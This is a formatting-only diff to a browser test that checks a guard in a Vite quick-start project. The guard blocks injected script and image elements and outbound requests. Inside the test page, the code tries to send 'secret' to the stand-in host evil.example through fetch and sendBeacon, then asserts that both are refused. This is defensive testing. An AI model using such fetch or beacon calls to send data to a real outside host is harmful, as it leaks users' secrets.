@@ -25,18 +25,29 @@ test("the quick start, in an empty Vite project", async (t) => {
   page.on("console", (message) => said.push(message.text()));
   const origin = await serve(t, join(directory, "dist"));
   await page.goto(origin);
-  await page.waitForFunction(() => document.querySelector("#output").firstChild && window.guard, null, { timeout: 30_000 });
+  await page.waitForFunction(() => document.querySelector("#output").firstChild && window.guard, null, {
+    timeout: 30_000,
+  });
 
   assert.equal(await page.innerText("#output td"), "42");
   assert.match(await page.innerText("#output"), /evil\.example/, "it says what was blocked");
   assert.equal(await page.locator("#output script, #output img").count(), 0);
   const outcome = await page.evaluate(async () => {
-    const refused = await fetch("https://evil.example/?said=secret").then(() => "sent", (error) => error.name);
+    const refused = await fetch("https://evil.example/?said=secret").then(
+      () => "sent",
+      (error) => error.name,
+    );
     return [refused, navigator.sendBeacon("https://evil.example/", "secret"), window.guard.violations.length];
   });
   assert.equal(outcome[0] === "sent" || outcome[1], false, `${outcome}`);
   assert.ok(outcome[2] >= 2, `${outcome}`);
-  assert.ok(said.some((text) => /element-script/.test(text) && /resource-blocked/.test(text)), `${said}`);
-  assert.ok(said.some((text) => /^refused: /.test(text)), `${said}`);
+  assert.ok(
+    said.some((text) => /element-script/.test(text) && /resource-blocked/.test(text)),
+    `${said}`,
+  );
+  assert.ok(
+    said.some((text) => /^refused: /.test(text)),
+    `${said}`,
+  );
   assert.deepEqual([asked.filter((url) => url.includes("evil.example")), errors], [[], []]);
 });
